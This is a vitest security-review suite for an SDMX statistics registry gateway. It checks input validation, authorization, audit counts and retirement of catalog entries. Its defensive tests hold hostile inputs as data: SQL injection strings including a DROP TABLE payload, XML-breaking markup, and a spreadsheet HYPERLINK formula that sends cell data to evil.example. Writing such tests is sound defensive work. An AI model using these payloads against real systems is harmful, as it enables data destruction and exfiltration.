/**
 * Security review of the macro registry (libs/macro on the registry kit), run against a whole
 * gateway. The first block holds regressions for what the review found (each failed before its
 * fix); the second keeps the attacks that were defended defended; the last retires the catalog
 * entries, which cannot be undone, so it runs at the end.
 */
import { parse } from 'csv-parse/sync';
import { XMLParser } from 'fast-xml-parser';
import { DataSource } from 'typeorm';
import { beforeAll, describe, expect, it } from 'vitest';
import type { DocumentSeed } from '../../../seeds/macro/document-seed';
import { accessToken, bearer, createAgency, createOperator, createReviewer } from '../../support/identity-fixtures';
import { importMacro, installMacro, loadDocumentSeed, ndjson, type InstalledMacro } from '../../support/macro-fixtures';
import { consumer } from '../../support/registry-fixtures';
import { useTestGateway } from '../../support/test-gateway';

const gateway = useTestGateway();
const SDMX_JSON = 'application/vnd.sdmx.data+json;version=1.0.0';
const SDMX_CSV = 'application/vnd.sdmx.data+csv;version=1.0.0';
const GENERIC_DATA = 'application/vnd.sdmx.genericdata+xml;version=2.1';
const STRUCTURE_XML = 'application/vnd.sdmx.structure+xml;version=2.1';
const STRUCTURE_JSON = 'application/vnd.sdmx.structure+json;version=1.0.0';
const PROBLEM = 'application/problem+json';
/**
 * The first character outside the XML 1.0 `Char` production (as U+XXXX): no conforming parser
 * (libxml2 under rsdmx, expat) reads a document holding one, even as a character reference.
 */
function notXml10(text: string): string | undefined {
  for (const char of text) {
    const code = char.codePointAt(0) ?? 0;
    if ((code < 0x20 && code !== 0x09 && code !== 0x0a && code !== 0x0d) || code === 0xfffe || code === 0xffff) {
      return `U+${code.toString(16).toUpperCase().padStart(4, '0')}`;
    }
  }
  return undefined;
}

let operator: string;
let macro: InstalledMacro;
let seed: DocumentSeed;
/** A consumer agency's token (data.read). */
let reader: string;
/** A provider agency that does not provide the macro registry (data.write only). */
let otherProvider: string;
let reviewer: string;

beforeAll(async () => {
  operator = await accessToken(gateway(), await createOperator(gateway()));
  macro = await installMacro(gateway(), operator);
  seed = await loadDocumentSeed(gateway(), macro);
  reader = (await consumer(gateway(), operator)).token;
  otherProvider = await accessToken(gateway(), await createAgency(gateway(), operator, { roles: ['provider'] }));
  reviewer = await accessToken(gateway(), await createReviewer(gateway(), operator));
}, 300_000);

function get(path: string, accept = 'application/json', token: string | null = reader) {
  const request = gateway().http().get(path).set('accept', accept);
  return token === null ? request : request.set(bearer(token));
}

/** What a client of each kind of route asks for. */
function acceptFor(path: string): string {
  if (path.startsWith('/sdmx/rest/data')) return SDMX_JSON;
  return path.startsWith('/sdmx') ? STRUCTURE_JSON : 'application/json';
}

const csvRows = (text: string): Array<Record<string, string>> => parse<Record<string, string>>(text, { columns: true });

async function macroRecordCount(): Promise<number> {
  const rows = await gateway()
    .app.get(DataSource)
    .query<Array<{ n: number }>>(`SELECT count(*)::int AS n FROM registry_records WHERE registry LIKE 'macro-%'`);
  return rows[0]?.n ?? -1;
}

function putObservation(key: string, body: Record<string, unknown>, token = macro.statistics.token) {
  return gateway().http().put(`/registries/macro/observations/${key}`).set(bearer(token)).send(body);
}

interface AuditEntry {
  readonly requestId: string;
  readonly resource?: string;
  readonly recordCount?: number;
}

/** The audit entries that name a series or observation key (the log keeps only its keyed hash). */
async function auditEntriesAbout(key: string): Promise<AuditEntry[]> {
  const response = await gateway()
    .http()
    .get('/audit/entries')
    .query({ subject: key, subjectKind: 'record', limit: '1000' })
    .set(bearer(reviewer));
  expect(response.status, JSON.stringify(response.body)).toBe(200);
  return response.body.items as AuditEntry[];
}

/** The series of the seed with the most observations, as its SDMX key and observation count. */
function longestSeries(): { key: string; observations: number } {
  const counts = new Map<string, number>();
  for (const row of seed.observations) {
    const key = [row.freq, row.ref_area, row.indicator, row.value_type].map(String).join('.');
    counts.set(key, (counts.get(key) ?? 0) + 1);
  }
  const [longest] = [...counts.entries()].sort((a, b) => b[1] - a[1]);
  return { key: longest?.[0] ?? '', observations: longest?.[1] ?? 0 };
}

describe('macro review: findings (each fails until fixed)', () => {
  it('answers an asOf that class-validator calls ISO 8601 but Date cannot read with 400, not 500', async () => {
    // @IsISO8601({ strict: true }) passes ISO week and ordinal dates, basic format and an hour alone;
    // new Date() makes Invalid Date of them, pg sends "NaN-NaN-NaN…" and PostgreSQL fails the query.
    for (const asOf of ['2009-W01-1', '2009-123', '20090519', '2009-05-19T14']) {
      for (const path of [
        `/registries/macro/series?indicator=FIBRE_CABLE_LAID&asOf=${asOf}`,
        `/registries/macro/observations/A.440100.FIBRE_CABLE_LAID.TARGET.2005?asOf=${asOf}`,
        `/registries/macro/indicators/FIBRE_CABLE_LAID?asOf=${asOf}`,
      ]) {
        const response = await get(path);
        expect.soft(response.status, path).toBe(400);
        expect.soft(response.body.type, path).toBe('/problems/validation-error');
      }
    }
  });

  it('keeps SDMX-ML well-formed when a provider value holds a control character XML 1.0 forbids', async () => {
    // U+000B is what Word writes for a manual line break; it survives copy and paste into a CSV.
    const observation = await putObservation('A.440100.INTERNET_USERS.ACTUAL.2033', {
      obs_value: '1',
      comment: '第一行\u000B第二行',
    });
    const indicator = await gateway()
      .http()
      .put('/registries/macro/indicators/CONTROL_CHARACTER_NAME')
      .set(bearer(macro.statistics.token))
      .send({
        name_zh: '控制\u0001字符',
        name_en: 'Control\u001Bcharacter',
        unit: 'units',
        unit_multiplier: 0,
        frequency: 'A',
        source_agency: '市统计局',
        topic: 'ECONOMY',
      });
    // Refused at the door, naming the item: stored, it would make every SDMX-ML message carrying it malformed.
    expect(observation.status).toBe(400);
    expect(observation.body.errors).toEqual([expect.objectContaining({ field: 'comment', rule: 'text' })]);
    expect(indicator.status).toBe(400);
    expect(indicator.body.errors).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ field: 'name_zh', rule: 'text' }),
        expect.objectContaining({ field: 'name_en', rule: 'text' }),
      ]),
    );
    const data = await get('/sdmx/rest/data/DF_MACRO/A.440100..TARGET', GENERIC_DATA);
    expect(data.status).toBe(200);
    // Was: the raw U+000B inside value="…": rsdmx / libxml2 stop with "invalid character in attribute value".
    expect.soft(notXml10(data.text), 'GenericData').toBeUndefined();
    const structure = await get('/sdmx/rest/dataflow/HUTONG/DF_MACRO/latest?references=all', STRUCTURE_XML);
    expect(structure.status).toBe(200);
    // Was: one indicator name breaks every structure message that lists CL_INDICATOR, for every consumer.
    expect.soft(notXml10(structure.text), 'Structure').toBeUndefined();
  });

  it('serves a stored decimal exactly in SDMX-CSV and SDMX-ML instead of rounding it through a double', async () => {
    const key = 'A.440100.INTERNET_USERS.ACTUAL.2032';
    // 18 integer digits: inside the registry's decimal type, which is stored as text "so no precision is lost".
    expect((await putObservation(key, { obs_value: '123456789012345678' })).status).toBe(201);
    const stored = await get(`/registries/macro/observations/${key}`);
    expect(stored.body.record.obs_value).toBe('123456789012345678');
    const csv = csvRows(
      (await get('/sdmx/rest/data/DF_MACRO/A.440100.INTERNET_USERS.ACTUAL?startPeriod=2032&endPeriod=2032', SDMX_CSV)).text,
    );
    // Was: 123456789012345680 in both.
    expect.soft(csv[0]?.OBS_VALUE).toBe('123456789012345678');
    const xml = await get(
      '/sdmx/rest/data/DF_MACRO/A.440100.INTERNET_USERS.ACTUAL?startPeriod=2032&endPeriod=2032',
      GENERIC_DATA,
    );
    expect.soft(xml.text).toContain('<generic:ObsValue value="123456789012345678"/>');
  });

  it('serves an SDMX key over 200 characters and answers router-level errors as problem+json', async () => {
    // 40 prefecture-level codes of Guangdong and Sichuan with +: an ordinary SDMX query, 279 characters.
    const regions = [
      ...['4401', '4402', '4403', '4404', '4405', '4406', '4407', '4408', '4409', '4412', '4413', '4414', '4415', '4416'],
      ...['4417', '4418', '4419', '4420', '4451', '4452', '4453', '5101', '5103', '5104', '5105', '5106', '5107', '5108'],
      ...['5109', '5110', '5111', '5113', '5114', '5115', '5116', '5117', '5118', '5119', '5120', '5132'],
    ].map((prefix) => `${prefix}00`);
    const key = `A.${regions.join('+')}..TARGET`;
    expect(key.length).toBeGreaterThan(200);
    const long = await get(`/sdmx/rest/data/DF_MACRO/${key}`, SDMX_CSV);
    // Was: 414 {"statusCode":414,"code":"FST_ERR_MAX_PARAM_LENGTH",…} as application/json, with no request id and no audit entry.
    expect.soft(long.status).toBe(200);
    const expected = seed.observations.filter(
      (row) => row.freq === 'A' && row.value_type === 'TARGET' && regions.includes(String(row.ref_area)),
    );
    expect(expected.length).toBeGreaterThan(0);
    expect.soft(long.status === 200 ? csvRows(long.text).length : 0).toBe(expected.length);
    const badEscape = await get('/sdmx/rest/data/DF_MACRO/A.%ZZ..', SDMX_CSV);
    expect(badEscape.status).toBe(400);
    // Was: Fastify's own {"code":"FST_ERR_BAD_URL",…} as application/json.
    expect.soft(badEscape.headers['content-type']).toContain(PROBLEM);
  });

  it('counts the observations an SDMX read returned, not its series, in the audit entry and metering', async () => {
    const series = longestSeries();
    expect(series.observations).toBeGreaterThan(1);
    const response = await get(`/sdmx/rest/data/DF_MACRO/${series.key}`, SDMX_CSV);
    expect(response.status).toBe(200);
    expect(csvRows(response.text)).toHaveLength(series.observations);
    const entry = (await auditEntriesAbout(series.key)).find((one) => one.requestId === response.headers['x-request-id']);
    expect(entry).toBeDefined();
    // Was: 1 — the number of series; the same observations read one by one count one each.
    expect(entry?.recordCount).toBe(series.observations);
  });
});

describe('macro review: defended attacks', () => {
  it('SQL injection through every key position, + list, flowRef, providerRef, period, instant and structure path part: 400/404 problem+json, table intact', async () => {
    const before = await macroRecordCount();
    const injections = ["'", "440100' OR '1'='1", '1;DROP TABLE registry_records--', "x')) OR 1=1--"];
    const paths: string[] = [];
    for (const injection of injections) {
      const code = encodeURIComponent(injection);
      paths.push(
        `/sdmx/rest/data/DF_MACRO/${code}.440100..`,
        `/sdmx/rest/data/DF_MACRO/A.${code}..`,
        `/sdmx/rest/data/DF_MACRO/A..${code}.`,
        `/sdmx/rest/data/DF_MACRO/A...${code}`,
        `/sdmx/rest/data/DF_MACRO/A.440100+${code}..`,
        `/sdmx/rest/data/${code}/all`,
        `/sdmx/rest/data/HUTONG,DF_MACRO,${code}/all`,
        `/sdmx/rest/data/DF_MACRO/all/HUTONG,${code}`,
        `/sdmx/rest/data/DF_MACRO/all?startPeriod=2015${code}`,
        `/sdmx/rest/data/DF_MACRO/all?endPeriod=${code}`,
        `/sdmx/rest/data/DF_MACRO/all?updatedAfter=2026-01-01T00:00:00Z${code}`,
        `/sdmx/rest/data/DF_MACRO/all?asOf=${code}`,
        `/sdmx/rest/data/DF_MACRO/all?dimensionAtObservation=${code}`,
        `/sdmx/rest/codelist${code}`,
        `/sdmx/rest/codelist/HUTONG${code}`,
        `/sdmx/rest/codelist/HUTONG/CL_AREA${code}`,
        `/sdmx/rest/codelist/HUTONG/CL_AREA/1.0${code}`,
        `/registries/macro/series?indicator=${code}`,
        `/registries/macro/series?indicator=FIBRE_CABLE_LAID&region=${code}`,
        `/registries/macro/series?indicator=FIBRE_CABLE_LAID&from=${code}`,
        `/registries/macro/observations/A.440100.FIBRE_CABLE_LAID.TARGET.${code}`,
        `/registries/macro/observations/A.${code}.FIBRE_CABLE_LAID.TARGET.2005/history`,
        `/registries/macro/indicators/${code}`,
      );
    }
    for (const path of paths) {
      const response = await get(path, acceptFor(path));
      expect.soft([400, 404], `${path} → ${response.status}`).toContain(response.status);
      expect.soft(response.headers['content-type'], path).toContain(PROBLEM);
    }
    expect(await macroRecordCount()).toBe(before);
  });

  it('refuses pathological query shapes with 400 problem+json: repeated and array parameters, NUL, unknown or prototype names, non-ASCII codes', async () => {
    const cases = [
      '/sdmx/rest/data/DF_MACRO/A.440100..?detail=full&detail=nodata',
      '/sdmx/rest/data/DF_MACRO/A.440100..?startPeriod=2010&startPeriod=2015',
      '/sdmx/rest/data/DF_MACRO/A.440100..?detail[]=full',
      '/sdmx/rest/data/DF_MACRO/A.440100..?__proto__=x',
      '/sdmx/rest/data/DF_MACRO/A.440100..?constructor=x',
      '/sdmx/rest/data/DF_MACRO/A.440100..?format=csv',
      '/sdmx/rest/data/DF_MACRO/A.440100%00..',
      '/sdmx/rest/data/DF_MACRO/A.440100..?asOf=2026-01-01T00:00:00Z%00',
      `/sdmx/rest/data/DF_MACRO/A.${encodeURIComponent('四四〇一〇〇')}..`,
      `/sdmx/rest/data/DF_MACRO/A.${encodeURIComponent('４４０１００')}..`,
      '/sdmx/rest/data/DF_MACRO/A.440100+..',
      '/sdmx/rest/data/DF_MACRO/A.440100...ACTUAL',
      '/sdmx/rest/data/DF_MACRO/A.440100..?firstNObservations=99999999',
      '/sdmx/rest/data/DF_MACRO/A.440100..?lastNObservations=-1',
      '/sdmx/rest/data/DF_MACRO/A.440100..?firstNObservations=1e3',
      '/sdmx/rest/codelist/HUTONG/CL_AREA?references=all&references=none',
      '/sdmx/rest/codelist/HUTONG/CL_AREA?detail=full&detail=allstubs',
      `/sdmx/rest/codelist/HUTONG/${encodeURIComponent('ＣＬ_AREA')}`,
      '/registries/macro/series?indicator=FIBRE_CABLE_LAID&indicator=INTERNET_USERS',
      `/registries/macro/series?indicator=${Array.from({ length: 51 }, (_, i) => `I${i}X`).join(',')}`,
    ];
    for (const path of cases) {
      const response = await get(path, acceptFor(path));
      expect.soft(response.status, path).toBe(400);
      expect.soft(response.headers['content-type'], path).toContain(PROBLEM);
    }
  });

  it('handles time parameters at their edges: reversed window 400 (SDMX 150), impossible dates 400, asOf before any data 404, asOf in the future = now', async () => {
    const path = '/sdmx/rest/data/DF_MACRO/A.440100..';
    const reversed = await get(`${path}?startPeriod=2015-Q3&endPeriod=2015-Q2`);
    expect(reversed.status).toBe(400);
    expect(reversed.body).toMatchObject({ type: '/problems/sdmx-semantic-error', sdmxCode: 150 });
    for (const query of [
      'startPeriod=2015-02-30',
      'endPeriod=2015-Q5',
      'startPeriod=2015-W01',
      'asOf=2026-01-01',
      'updatedAfter=yesterday',
    ]) {
      expect.soft((await get(`${path}?${query}`)).status, query).toBe(400);
    }
    const beforeAnyData = await get(`${path}?asOf=2000-01-01T00:00:00Z`);
    expect(beforeAnyData.status).toBe(404);
    expect(beforeAnyData.body).toMatchObject({ type: '/problems/sdmx-no-results', sdmxCode: 100 });
    const now = await get(path, SDMX_CSV);
    const future = await get(`${path}?asOf=2999-01-01T00:00:00%2B08:00`, SDMX_CSV);
    expect(future.status).toBe(200);
    expect(csvRows(future.text)).toEqual(csvRows(now.text));
    expect((await get(`${path}?updatedAfter=2999-01-01T00:00:00Z`)).status).toBe(404);
  });

  it('negotiates odd Accept headers to a served format or 406 problem+json, never to a version it does not write', async () => {
    const path = '/sdmx/rest/data/DF_MACRO/A.440100..';
    const cases: Array<[string, string, number, string]> = [
      ['data', 'application/json;q=abc', 406, PROBLEM],
      ['data', '*/*;q=0', 406, PROBLEM],
      ['data', 'application/json;q=abc, text/csv;q=2', 200, 'application/vnd.sdmx.data+csv'],
      [
        'data',
        'application/vnd.sdmx.data+csv;version=2.0.0, application/vnd.sdmx.data+json;version=1.0.0;q=0.1',
        200,
        'application/vnd.sdmx.data+json',
      ],
      ['data', 'application/vnd.sdmx.genericdata+xml;version="2.1"', 200, 'application/vnd.sdmx.genericdata+xml'],
      ['data', 'text/html', 406, PROBLEM],
      ['structure', 'application/vnd.sdmx.structure+json;version=2.0.0', 406, PROBLEM],
      ['structure', 'application/vnd.sdmx.structure+xml;version=3.0.0', 406, PROBLEM],
    ];
    for (const [kind, accept, status, type] of cases) {
      const response = await get(kind === 'data' ? path : '/sdmx/rest/dataflow', accept);
      expect.soft(response.status, accept).toBe(status);
      expect.soft(response.headers['content-type'], accept).toContain(type);
    }
  });

  it('reads need an agency token with data.read: none 401, a provider-only token 403 insufficient_scope, an operator 403', async () => {
    const paths = [
      '/sdmx/rest/data/DF_MACRO/A.440100..',
      '/sdmx/rest/codelist/HUTONG/CL_INDICATOR',
      '/registries/macro/indicators',
      '/registries/macro/series?indicator=FIBRE_CABLE_LAID',
      '/registries/macro/observations/A.440100.FIBRE_CABLE_LAID.TARGET.2005',
      '/registries/macro/observations/A.440100.FIBRE_CABLE_LAID.TARGET.2005/history',
    ];
    for (const path of paths) {
      const accept = acceptFor(path);
      const anonymous = await get(path, accept, null);
      expect.soft([anonymous.status, anonymous.body.type], path).toEqual([401, '/problems/missing-token']);
      const writerOnly = await get(path, accept, otherProvider);
      expect.soft([writerOnly.status, writerOnly.body.code], path).toEqual([403, 'insufficient_scope']);
      const asOperator = await get(path, accept, operator);
      expect.soft([asOperator.status, asOperator.body.code], path).toEqual([403, 'wrong_principal_kind']);
    }
  });

  it("writes only by the registry's provider: a consumer and another provider are refused on PUT, DELETE and imports, and nothing changes", async () => {
    const existing = 'A.440100.FIBRE_CABLE_LAID.TARGET.2005';
    const fresh = 'A.440100.FIBRE_CABLE_LAID.TARGET.2039';
    const before = await get(`/registries/macro/observations/${existing}`);
    const line = ndjson([{ observation_key: fresh, obs_value: '1' }]);
    for (const [who, token, code] of [
      ['consumer', reader, 'insufficient_scope'],
      ['other provider', otherProvider, 'not_authoritative'],
    ] as const) {
      const put = await putObservation(existing, { obs_value: '999999' }, token);
      expect.soft([put.status, put.body.code], `${who} PUT`).toEqual([403, code]);
      const created = await putObservation(fresh, { obs_value: '1' }, token);
      expect.soft([created.status, created.body.code], `${who} PUT new`).toEqual([403, code]);
      const indicator = await gateway()
        .http()
        .put('/registries/macro/indicators/FIBRE_CABLE_LAID')
        .set(bearer(token))
        .send({ name_zh: '篡改' });
      expect.soft([indicator.status, indicator.body.code], `${who} PUT indicator`).toEqual([403, code]);
      const removed = await gateway().http().delete(`/registries/macro/observations/${existing}?reason=x`).set(bearer(token));
      expect.soft([removed.status, removed.body.code], `${who} DELETE`).toEqual([403, code]);
      for (const kind of ['observations', 'indicators']) {
        const started = await gateway()
          .http()
          .post(`/registries/macro/${kind}/imports`)
          .set(bearer(token))
          .set('content-type', 'application/x-ndjson')
          .send(line);
        expect.soft([started.status, started.body.code], `${who} import ${kind}`).toEqual([403, code]);
      }
    }
    const after = await get(`/registries/macro/observations/${existing}`);
    expect(after.body).toMatchObject({ version: before.body.version, record: before.body.record });
    expect((await get(`/registries/macro/observations/${fresh}`)).status).toBe(404);
    expect((await get('/registries/macro/indicators/FIBRE_CABLE_LAID')).body.record.name_zh).toBe('敷设光缆总量');
    // Another agency cannot even see the provider's import.
    const own = await importMacro(gateway(), macro.statistics.token, 'observations', 'application/x-ndjson', line);
    const peek = await gateway()
      .http()
      .get(`/registries/macro/observations/imports/${String(own.id)}`)
      .set(bearer(otherProvider));
    expect(peek.status).toBe(404);
  });

  it('rejects each import row that contradicts the registry with its rule, and stores none of them', async () => {
    const csv = [
      'DATAFLOW,FREQ,REF_AREA,INDICATOR,VALUE_TYPE,TIME_PERIOD,OBS_VALUE,OBS_STATUS,COMPARATOR',
      'HUTONG:DF_MACRO(1.0),A,440100,INTERNET_USERS,ACTUAL,2060,-12.5,actual,=',
      'HUTONG:DF_MACRO(1.0),A,440100,INTERNET_USERS,ACTUAL,2060,13,actual,=',
      'HUTONG:DF_MACRO(1.0),A,440100,NO_SUCH_INDICATOR,ACTUAL,2061,1,actual,=',
      'HUTONG:DF_MACRO(1.0),A,440100,INTERNET_USERS,ACTUAL,2015-Q1,1,actual,=',
      'HUTONG:DF_MACRO(1.0),Q,440100,INTERNET_USERS,ACTUAL,2062,1,actual,=',
      'HUTONG:DF_MACRO(1.0),A,440100,INTERNET_USERS,TARGET,2063,1,actual,=',
      'HUTONG:DF_MACRO(1.0),A,440100,INTERNET_USERS,ACTUAL,2064,1,target,=',
      'HUTONG:DF_MACRO(1.0),A,440100,INTERNET_USERS,ACTUAL,2065,NaN,actual,=',
      'HUTONG:DF_MACRO(1.0),A,440100,INTERNET_USERS,ACTUAL,2066,1e400,actual,=',
      'HUTONG:DF_MACRO(1.0),A,440100,INTERNET_USERS,ACTUAL,2067,1234567890123456789,actual,=',
      'HUTONG:DF_MACRO(1.0),A,440100,INTERNET_USERS,ACTUAL,2068,Infinity,actual,=',
      'HUTONG:DF_MACRO(1.1),A,440100,INTERNET_USERS,ACTUAL,2069,1,actual,=',
      'HUTONG:DF_MACRO(1.0),A,999999,INTERNET_USERS,ACTUAL,2070,1,actual,=',
    ].join('\r\n');
    const done = await importMacro(gateway(), macro.statistics.token, 'observations', SDMX_CSV, csv);
    expect(done).toMatchObject({ state: 'completed', rowsRead: 13, rowsCreated: 1, rowsRejected: 12 });
    const errors = await gateway()
      .http()
      .get(`/registries/macro/observations/imports/${String(done.id)}/errors`)
      .set(bearer(macro.statistics.token));
    const rules = (errors.body.errors as Array<{ line: number; field: string; rule: string }>).map(
      (error) => `${error.line}:${error.field}:${error.rule}`,
    );
    expect(rules).toEqual([
      '3:observation_key:duplicate',
      '4:indicator:unknown_reference',
      '5:observation_key:time_period',
      '6:observation_key:time_period',
      '7:obs_status:value_type',
      '8:obs_status:value_type',
      '9:obs_value:decimal',
      '10:obs_value:decimal',
      '11:obs_value:decimal',
      '12:obs_value:decimal',
      '13:DATAFLOW:constant',
      '14:observation_key:ref_area',
    ]);
    // Key and dimensions that disagree, an overflowing JSON number and a non-JSON NaN, in NDJSON.
    const raw = [
      JSON.stringify({ observation_key: 'A.440100.INTERNET_USERS.ACTUAL.2071', ref_area: '510100', obs_value: '1' }),
      JSON.stringify({ observation_key: 'A.440100.INTERNET_USERS.ACTUAL.2072', time_period: '2073', obs_value: '1' }),
      '{"observation_key":"A.440100.INTERNET_USERS.ACTUAL.2074","obs_value":1e400}',
      '{"observation_key":"A.440100.INTERNET_USERS.ACTUAL.2075","obs_value":NaN}',
      JSON.stringify({
        observation_key: 'A.440100.INTERNET_USERS.ACTUAL.2076',
        obs_value: '1',
        DATAFLOW: 'HUTONG:DF_MACRO(1.0)',
      }),
    ].join('\n');
    const second = await importMacro(gateway(), macro.statistics.token, 'observations', 'application/x-ndjson', raw);
    expect(second).toMatchObject({ state: 'completed', rowsRead: 5, rowsCreated: 0, rowsRejected: 5 });
    const series = csvRows(
      (await get('/sdmx/rest/data/DF_MACRO/A.440100.INTERNET_USERS.ACTUAL?startPeriod=2060', SDMX_CSV)).text,
    );
    expect(series.map((row) => [row.TIME_PERIOD, row.OBS_VALUE])).toEqual([['2060', '-12.5']]);
    // A header naming no item is refused before anything runs.
    const unknownColumn = await gateway()
      .http()
      .post('/registries/macro/observations/imports')
      .set(bearer(macro.statistics.token))
      .set('content-type', 'text/csv')
      .send('observation_key,obs_value,drop_table\r\nA.440100.INTERNET_USERS.ACTUAL.2077,1,x');
    expect(unknownColumn.status).toBe(400);
  });

  it('returns hostile values verbatim without letting them change the SDMX-CSV or SDMX-ML structure (formula text is data, see the report)', async () => {
    const comment = '</generic:Value><generic:Value id="OBS_STATUS" value="R"/><!-- & "quoted" \'single\'';
    const sourceRef =
      '=HYPERLINK("http://evil.example/?"&A1,"x"),"\r\nHUTONG:DF_MACRO(1.0),A,440100,INTERNET_USERS,ACTUAL,2099,1';
    const key = 'A.440100.INTERNET_USERS.ACTUAL.2034';
    expect((await putObservation(key, { obs_value: '7', comment, source_ref: sourceRef })).status).toBe(201);
    const path = '/sdmx/rest/data/DF_MACRO/A.440100.INTERNET_USERS.ACTUAL?startPeriod=2034&endPeriod=2034';
    const csv = csvRows((await get(path, SDMX_CSV)).text);
    expect(csv).toHaveLength(1);
    expect(csv[0]).toMatchObject({
      TIME_PERIOD: '2034',
      OBS_VALUE: '7',
      OBS_STATUS: 'A',
      SOURCE_REF: sourceRef,
      OBS_COMMENT: comment,
    });
    const xml = (await get(path, GENERIC_DATA)).text;
    const parsed = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '', removeNSPrefix: true }).parse(xml) as {
      GenericData: { DataSet: { Series: { Obs: { Attributes: { Value: Array<{ id: string; value: string }> } } } } };
    };
    const values = parsed.GenericData.DataSet.Series.Obs.Attributes.Value;
    expect(values.filter((value) => value.id === 'OBS_STATUS')).toEqual([{ id: 'OBS_STATUS', value: 'A' }]);
    expect(values.find((value) => value.id === 'OBS_COMMENT')?.value).toBe(comment);
    const json = JSON.parse((await get(path, SDMX_JSON)).text) as {
      data: { structure: { attributes: { observation: Array<{ id: string; values: Array<{ name: string }> }> } } };
    };
    expect(json.data.structure.attributes.observation.find((a) => a.id === 'SOURCE_REF')?.values).toEqual([{ name: sourceRef }]);
  });

  it('records in the audit log every series an SDMX or plain read returned, under the observations resource', async () => {
    const first = 'A.440100.FIBRE_CABLE_LAID.TARGET';
    const second = 'A.440100.IP_METRO_BANDWIDTH.TARGET';
    const sdmx = await get('/sdmx/rest/data/DF_MACRO/A.440100.FIBRE_CABLE_LAID+IP_METRO_BANDWIDTH.TARGET', SDMX_CSV);
    expect(sdmx.status).toBe(200);
    const plain = await get('/registries/macro/series?indicator=FIBRE_CABLE_LAID&region=440100');
    expect(plain.status).toBe(200);
    for (const series of [first, second]) {
      const entry = (await auditEntriesAbout(series)).find((one) => one.requestId === sdmx.headers['x-request-id']);
      expect(entry, series).toMatchObject({ resource: macro.resources.observations });
    }
    expect((await auditEntriesAbout(first)).map((one) => one.requestId)).toContain(plain.headers['x-request-id']);
  });
});

describe('macro review: retired catalog entries (last: retirement cannot be undone)', () => {
  it('stops every read of a retired entry, SDMX structure queries and code names included', async () => {
    const retire = (resource: string) =>
      gateway().http().post(`/catalog/resources/${resource}/retire`).set(bearer(operator)).send({ reason: '停止维护' });
    const indicator = seed.indicators.find((row) => row.indicator_code === 'FIBRE_CABLE_LAID') ?? {};
    const nameZh = String(indicator.name_zh);
    const described = [nameZh, String(indicator.name_en), String(indicator.methodology)];

    expect((await retire(macro.resources.indicators)).status).toBe(200);
    // The record route asks the catalog and refuses.
    const one = await get('/registries/macro/indicators/FIBRE_CABLE_LAID');
    expect(one.body).toMatchObject({ status: 403, reason: 'resource_retired' });
    // Was: 200 {"items":[{},{},…]}, one empty object per indicator.
    expect.soft((await get('/registries/macro/indicators')).status, 'indicator list').toBe(403);
    // Was: 200 with every indicator's names and methodology — structure queries ask no one.
    const codelist = await get('/sdmx/rest/codelist/HUTONG/CL_INDICATOR', STRUCTURE_JSON);
    for (const text of described) expect.soft(codelist.text.includes(text), `CL_INDICATOR names ${text}`).toBe(false);
    // Was: the data message names the INDICATOR codes from the retired registry (UNIT_MEASURE is rightly left out).
    const data = await get('/sdmx/rest/data/DF_MACRO/A.440100.FIBRE_CABLE_LAID.', SDMX_JSON);
    expect(data.status).toBe(200);
    expect.soft(data.text.includes(nameZh), `SDMX-JSON names INDICATOR ${nameZh}`).toBe(false);

    expect((await retire(macro.resources.observations)).status).toBe(200);
    expect((await get('/sdmx/rest/data/DF_MACRO/A.440100..', SDMX_JSON)).status).toBe(403);
    // Was: 200, CL_AREA listing every region the retired registry holds observations for.
    const area = await get('/sdmx/rest/codelist/HUTONG/CL_AREA', STRUCTURE_JSON);
    expect.soft(area.status, 'CL_AREA').toBe(403);
    expect.soft(area.text.includes('"510100"'), 'CL_AREA lists 510100').toBe(false);
    expect.soft((await get('/sdmx/rest/dataflow/HUTONG/DF_MACRO?references=all', STRUCTURE_XML)).status, 'dataflow').toBe(403);
  });
});
